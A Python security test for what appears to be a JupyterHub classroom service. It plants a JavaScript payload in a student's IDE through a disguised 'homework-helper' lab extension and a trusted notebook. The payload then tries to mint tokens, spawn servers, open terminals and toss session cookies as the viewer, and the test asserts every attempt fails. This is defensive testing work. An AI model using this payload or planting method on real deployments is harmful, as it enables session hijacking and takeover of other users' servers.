"""A student's code in her own JupyterLab, run by whoever opens her IDE, trying to act
as that viewer: the attack of test_class_page.py (*.localhost) and test_ide_attacks.py
(a network name, plain HTTP and HTTPS).

The student puts it there two ways, as any student can: a small federated extension in
her labextensions folder (a package.json and a remote entry, as ``jupyter labextension
build`` leaves them; JupyterLab loads it for every viewer of her server) and a trusted
notebook whose output is a script. Both carriers run the same attempts: read the hub's
home page and the viewer's identity, mint a token for the viewer, spawn a server of the
viewer's from the hub's form, read another student's server and open a terminal there,
open a terminal on the viewer's own server (also with a minted token, should one be
minted), and reach the hub and other servers from her own host. With ``toss``, cookies
of the student's own hub session are first set for the hub's domain (a sibling host may
set them over plain HTTP) and their XSRF token sent.
"""

import json
from urllib.parse import urljoin, urlsplit

import requests
from playwright.sync_api import expect

from ..support.hubtools import login, save_text
from ..support.terminals import run_in_terminal
from .lab import UI_TIMEOUT_MS, log_in

ATTACKER = "amira"

# The hub's cookies a student's page would set for the hub's domain: each with a path
# that makes browsers send it after the viewer's own (tornado keeps the last of a name).
TOSSED_COOKIES = (
    ("jupyterhub-hub-login", "/hub"),
    ("__Host-jupyterhub-hub-login", "/"),  # the hub's name for it over HTTPS
    ("_xsrf", "/hub"),
    ("jupyterhub-session-id", "/"),
)

SPY = r"""
async function codepilotSpy(config, reportId) {
  const {hub, attacker, other, toss} = config;
  const out = {};
  let xsrf = toss ? toss.cookies._xsrf : "";
  async function attempt(name, action) {
    try { out[name] = String(await action()); }
    catch (error) { out[name] = "blocked: " + error.name; }
  }
  async function read(url, init) {  // an answer the page could read
    const reply = await fetch(url, {credentials: "include", ...(init || {})});
    return reply.status + " " + (await reply.text()).slice(0, 2000);
  }
  async function send(url, body) {  // a simple POST: no preflight, the answer unreadable
    await fetch(url, {method: "POST", mode: "no-cors", credentials: "include",
                      headers: {"Content-Type": "text/plain"}, body: body});
    return "sent";
  }
  function formPost(url, fields) {  // a form POST navigation, in a frame of its own
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "spy-" + Math.random().toString(36).slice(2);
    frame.style.display = "none";
    form.method = "POST"; form.action = url; form.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.type = "hidden"; input.name = name; input.value = value;
      form.appendChild(input);
    }
    document.body.append(frame, form);
    return new Promise((done) => {
      frame.onload = () => done("sent");
      setTimeout(() => done("sent"), 5000);
      form.submit();
    });
  }
  // Who is looking: her own server answers that on her origin, as it does JupyterLab.
  const here = (document.cookie.match(/(?:^|; )(?:__Host-)?_xsrf=([^;]+)/) || [])[1] || "";
  const me = await (await fetch("/user/" + attacker + "/api/me",
                                {headers: {"X-XSRFToken": here}})).json();
  const viewer = me.identity.username;
  const own = config.own.replaceAll("spyviewer", viewer);
  if (toss) {
    for (const domain of toss.domains) {
      for (const [name, path] of toss.paths) {
        document.cookie = name + "=" + toss.cookies[name] + "; Domain=" + domain + "; Path=" + path;
      }
    }
  }
  out.viewer = viewer;
  const tokens = hub + "/hub/api/users/" + viewer + "/tokens";
  await attempt("hub_home", async () => {
    const reply = await fetch(hub + "/hub/home", {credentials: "include"});
    const page = await reply.text();  // if readable, its XSRF token serves the rest
    xsrf = (page.match(/xsrf_token: "([^"]+)"/) || [])[1] || xsrf;
    return reply.status + " " + page.slice(0, 2000);
  });
  const json = {"Content-Type": "application/json", "X-XSRFToken": xsrf};
  await attempt("hub_user", () => read(hub + "/hub/api/user", {headers: json}));
  let stolen = "";
  await attempt("token", async () => {
    const answer = await read(tokens, {method: "POST", headers: json,
                                       body: JSON.stringify({note: "stolen"})});
    stolen = answer.startsWith("201") ? JSON.parse(answer.slice(4)).token : "";
    return answer;
  });
  await attempt("token_simple", () => send(tokens + "?_xsrf=" + xsrf, '{"note": "stolen"}'));
  const spawn = hub + "/hub/spawn/" + viewer + "/stolen";
  await attempt("spawn_form", () => formPost(spawn, {_xsrf: xsrf}));
  await attempt("other_read", () => read(other + "api/contents"));
  await attempt("other_terminal", () => send(other + "api/terminals?_xsrf=" + xsrf, ""));
  await attempt("own_read", () => read(own + "api/terminals"));
  await attempt("own_terminal", () => send(own + "api/terminals?_xsrf=" + xsrf, ""));
  await attempt("own_terminal_form", () => formPost(own + "api/terminals", {_xsrf: xsrf}));
  // With a token, if one was minted: terminals wherever the viewer may open them.
  const bearer = {method: "POST", headers: {"Authorization": "token " + stolen}};
  await attempt("token_terminal_own", () => read(own + "api/terminals", bearer));
  await attempt("token_terminal_other", () => read(other + "api/terminals", bearer));
  // Her own host: whatever the proxy sends from there to the hub or to other servers.
  await attempt("here_hub_user", () => read("/hub/api/user"));
  await attempt("here_other", () => read(new URL(other).pathname + "api/contents"));
  const report = document.createElement("pre");
  report.id = reportId;
  report.textContent = JSON.stringify(out);
  document.body.appendChild(report);
}
"""

EXTENSION_NAME = "homework-helper"
EXTENSION_PACKAGE = {
    "name": EXTENSION_NAME,
    "version": "0.1.0",
    "jupyterlab": {"_build": {"load": "static/remoteEntry.js", "extension": "./extension"}},
}
# A module federation container, as JupyterLab's loader expects one (init, get).
EXTENSION_ENTRY = """%(spy)s
(window._JUPYTERLAB = window._JUPYTERLAB || {})[%(name)s] = {
  init: () => {},
  get: () => Promise.resolve(() => ({
    id: %(name)s + ":plugin",
    autoStart: true,
    activate: () => { codepilotSpy(%(config)s, "spy-extension"); },
  })),
};
"""
NOTEBOOK_NAME = "help.ipynb"
NOTEBOOK_OUTPUT = """<script>%(spy)s
codepilotSpy(%(config)s, "spy-notebook");
</script>"""
CARRIERS = ("extension", "notebook")
# Every answer the page tried to read must be refused, or an error, never the data.
READ_ATTEMPTS = (
    "hub_home",
    "hub_user",
    "token",
    "token_terminal_own",
    "token_terminal_other",
    "other_read",
    "own_read",
    "here_hub_user",
)


def spy_config(hub, other: str) -> dict:
    """Where things are, for the student's script: the viewer's server is ``own`` with
    her name for "spyviewer"."""
    return {
        "hub": hub.url,
        "attacker": ATTACKER,
        "other": hub.server_url(other),
        "own": hub.server_url("spyviewer"),
    }


def notebook(html: str) -> str:
    """A notebook whose one output is ``html``: trusted, JupyterLab runs its scripts."""
    output = {"output_type": "display_data", "data": {"text/html": html}, "metadata": {}}
    cell = {
        "cell_type": "code",
        "execution_count": 1,
        "id": "help",
        "metadata": {},
        "outputs": [output],
        "source": "",
    }
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def plant(hub, other: str) -> None:
    """What the student does in her own IDE, with her own token: the extension in her
    labextensions folder (where ``pip install`` or ``jupyter labextension`` would put it)
    and the notebook, trusted."""
    config = json.dumps(spy_config(hub, other))
    entry = EXTENSION_ENTRY % {"spy": SPY, "name": json.dumps(EXTENSION_NAME), "config": config}
    html = NOTEBOOK_OUTPUT % {"spy": SPY, "config": config}
    token = hub.user_token(ATTACKER)
    headers = {"Authorization": f"token {token}"}
    for path, text in (
        ("helper-package.json", json.dumps(EXTENSION_PACKAGE)),
        ("helper-entry.js", entry),
        (NOTEBOOK_NAME, notebook(html)),
    ):
        save_text(hub.server_url(ATTACKER), path, text, headers).raise_for_status()
    with hub.open_terminal(ATTACKER, token) as terminal:
        run_in_terminal(
            terminal,
            f'd="$(jupyter --data-dir)/labextensions/{EXTENSION_NAME}"; mkdir -p "$d/static"'
            ' && mv helper-package.json "$d/package.json"'
            ' && mv helper-entry.js "$d/static/remoteEntry.js"'
            f" && jupyter trust {NOTEBOOK_NAME}; echo done-$((40+2))",
            "done-42",
        )


def open_server(page, url: str) -> None:
    """Go to a server the viewer may use, approving the hub's question if it asks; returns
    once the server's page answers (its cookie is then in her browser)."""
    page.goto(url, wait_until="commit")
    if "/oauth2/authorize" in page.url:
        page.get_by_role("button", name="Open the workspace").click()
        page.wait_for_url(f"{url}**", wait_until="commit", timeout=60_000)
    assert page.url.startswith(url), page.url


def traces(hub, viewer: str, other: str) -> dict:
    """What an attack would leave: the viewer's tokens and servers, and the terminals of
    the viewer's and of the other student's server."""
    admin = {"Authorization": f"token {hub.token}"}

    def get(url):  # a connection of its own: the proxy drops idle kept-alive ones
        reply = requests.get(url, headers=admin, timeout=30, verify=hub.session.verify)
        reply.raise_for_status()
        return reply.json()

    def terminals(user):
        return sorted(t["name"] for t in get(f"{hub.server_url(user)}api/terminals"))

    users = f"{hub.url}/hub/api/users/{viewer}"
    return {
        "tokens": {
            t["id"]: (t["note"], t["oauth_client"], tuple(sorted(t["scopes"])))
            for t in get(f"{users}/tokens")["api_tokens"]
        },
        "servers": sorted(get(users)["servers"]),
        "viewer_terminals": terminals(viewer),
        "other_terminals": terminals(other),
    }


def reports(page) -> dict:
    """What each carrier found, once both have run in the viewer's page."""
    found = {}
    for carrier in CARRIERS:
        report = page.locator(f"#spy-{carrier}")
        expect(report).to_be_attached(timeout=UI_TIMEOUT_MS * 2)
        found[carrier] = json.loads(report.text_content())
    return found


def leaked(found: dict, attacker: str) -> list[str]:
    """The read attempts that got the viewer's data (none, when all were refused). On her
    own host the hub may answer the student about herself: her cookies go there."""
    got = []
    for name in (*READ_ATTEMPTS, "here_other"):
        answer = found[name]
        if answer.startswith("blocked: ") or answer[:1] in "345":
            continue
        if name == "here_hub_user" and json.loads(answer[4:])["name"] == attacker:
            continue
        got.append(name)
    return got


def new_tokens(before: dict, after: dict) -> list[tuple]:
    return [after["tokens"][i] for i in after["tokens"].keys() - before["tokens"].keys()]


def unchanged(before: dict, after: dict) -> bool:
    keys = ("servers", "viewer_terminals", "other_terminals")
    return [before[k] for k in keys] == [after[k] for k in keys]


def sign_in(context, hub, user: str, password: str):
    page = context.new_page()
    log_in(page, hub.url, user, password, next_path="/hub/home")
    page.wait_for_url(f"{hub.url}/hub/home", timeout=UI_TIMEOUT_MS)
    return page


def attack_from_the_class_page(hub, viewers: dict, new_context, evidence, other: str) -> None:
    """Each viewer (name: password) signs in, uses her own server and the other
    student's, then opens Amira's IDE from the class page at her planted notebook; both
    carriers run there. Asserts that nothing was read or done as any viewer."""
    pages, before = {}, {}
    for viewer, password in viewers.items():
        page = sign_in(new_context(viewer), hub, viewer, password)
        # She has used her own server and another student's: their cookies are here.
        open_server(page, f"{hub.server_url(viewer)}lab")
        open_server(page, f"{hub.server_url(other)}lab")
        page.goto(hub.service_url("codepilot"))  # the class page links Amira's IDE
        ide = page.locator(f'tr[data-id="{ATTACKER}/"] a', has_text="Open IDE")
        before[viewer] = traces(hub, viewer, other)
        lab = urljoin(page.url, ide.get_attribute("href"))  # relative without subdomains
        open_server(page, f"{lab}/tree/{NOTEBOOK_NAME}")
        pages[viewer] = page  # both IDEs load at once
    for viewer, page in pages.items():
        found = reports(page)
        evidence.screenshot(page, f"ide-attack-{urlsplit(hub.url).hostname}-{viewer}")
        after = traces(hub, viewer, other)
        for carrier in found:
            assert found[carrier]["viewer"] == viewer
            assert leaked(found[carrier], ATTACKER) == [], (viewer, carrier, found[carrier])
        # The one new token: the hub's to Amira's server at the viewer's sign-in there.
        # Her server holds it (her code could read it there): it opens her own server
        # and tells the viewer's name, nothing more.
        [(note, client, scopes)] = new_tokens(before[viewer], after)
        assert (note, client) == ("", f"Server at /user/{ATTACKER}/")
        identity = {f"read:users:{what}!user={viewer}" for what in ("name", "groups")}
        assert set(scopes) <= {f"access:servers!server={ATTACKER}/", *identity}, scopes
        assert unchanged(before[viewer], after), (before[viewer], after)


def own_hub_cookies(hub, user: str) -> dict[str, str]:
    """The student's own hub cookies, as her browser holds them after she logs in."""
    held = {c.name: c.value for c in login(hub, user).cookies}
    # Over HTTPS the login cookie's name has the __Host- prefix: she tries it both ways.
    login_cookie = held.get("jupyterhub-hub-login") or held["__Host-jupyterhub-hub-login"]
    return {name: held.get(name, login_cookie) for name, _ in TOSSED_COOKIES}


def hub_domains(hub) -> list[str]:
    """The hub's host and each parent a sibling host could name in a cookie's Domain
    (hub.example.test, example.test; localhost)."""
    labels = urlsplit(hub.url).hostname.split(".")
    return [".".join(labels[i:]) for i in range(max(len(labels) - 1, 1))]


def signed_in_as(page, hub) -> str:
    """Whom the hub takes this browser for."""
    page.goto(f"{hub.url}/hub/api/user")
    return json.loads(page.locator("body").inner_text())["name"]


def toss_cookies_and_try(page, hub, viewer: str, other: str) -> tuple[dict, dict, dict]:
    """From a page of Amira's origin that the viewer has open: her script sets her own
    hub cookies for the hub's domain and its parents, then tries everything with her own
    XSRF token. Returns what it found, and the traces before and after."""
    toss = {"cookies": own_hub_cookies(hub, ATTACKER), "paths": TOSSED_COOKIES}
    toss["domains"] = hub_domains(hub)
    config = {**spy_config(hub, other), "toss": toss}
    open_server(page, f"{hub.server_url(ATTACKER)}lab")
    # Any page of her origin is as good as her IDE for her script: a light one, her
    # server's "not found" (its API's answers forbid scripts any request).
    page.goto(f"{hub.server_url(ATTACKER)}nothing-here")
    before = traces(hub, viewer, other)
    found = page.evaluate(
        f"async () => {{ {SPY}\n await codepilotSpy({json.dumps(config)}, 'spy-toss');"
        " return JSON.parse(document.getElementById('spy-toss').textContent); }"
    )
    return found, before, traces(hub, viewer, other)
